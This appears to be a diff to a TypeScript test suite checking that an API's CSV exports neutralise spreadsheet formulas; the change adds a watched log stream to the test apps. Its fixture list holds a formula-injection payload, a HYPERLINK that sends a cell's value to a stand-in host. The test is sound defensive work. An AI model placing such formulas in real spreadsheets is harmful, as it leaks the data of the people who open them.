@@ -10,6 +10,7 @@ import { fromExportedCell, neutraliseFormula } from "../csv/spreadsheet-csv.ts";
 import { insertStudent } from "../modules/students/repository.ts";
 import { createTestApp } from "../test/app.ts";
 import { adminToken, bearer, registerStudent, studentInput } from "../test/fixtures.ts";
+import { watchedLog } from "../test/log-watch.ts";
 
 const FORMULAS = [
   '=HYPERLINK("http://x?leak="&C2,"Click")',
@@ -45,7 +46,7 @@ describe("neutraliseFormula and fromExportedCell", () => {
 });
 
 describe("every CSV the API writes", async () => {
-  const { app, database } = await createTestApp();
+  const { app, database } = await createTestApp({ logStream: watchedLog() });
   const admin = bearer(await adminToken(app, database.db));
 
   for (const [index, formula] of FORMULAS.entries()) {
@@ -183,7 +184,7 @@ describe("every CSV the API writes", async () => {
   it("imports its own questions export back with identical texts (export → import → same questions)", async () => {
     const exported = (await app.inject({ method: "GET", url: "/api/questions/export.csv", headers: admin })).body;
     const before = (await app.inject({ method: "GET", url: "/api/questions", headers: admin })).json();
-    const target = await createTestApp();
+    const target = await createTestApp({ logStream: watchedLog() });
     const targetAdmin = bearer(await adminToken(target.app, target.database.db));
     const imported = await target.app.inject({
       method: "POST",
